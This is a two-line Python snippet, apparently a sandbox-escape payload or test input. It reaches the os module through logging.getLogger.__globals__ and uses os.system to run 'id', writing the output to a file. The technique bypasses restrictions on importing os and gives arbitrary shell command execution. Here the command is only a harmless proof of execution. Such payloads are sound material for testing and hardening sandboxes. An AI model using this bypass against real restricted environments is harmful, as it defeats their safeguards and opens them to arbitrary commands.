import logging
logging.getLogger.__globals__["os"].system("id>pf")
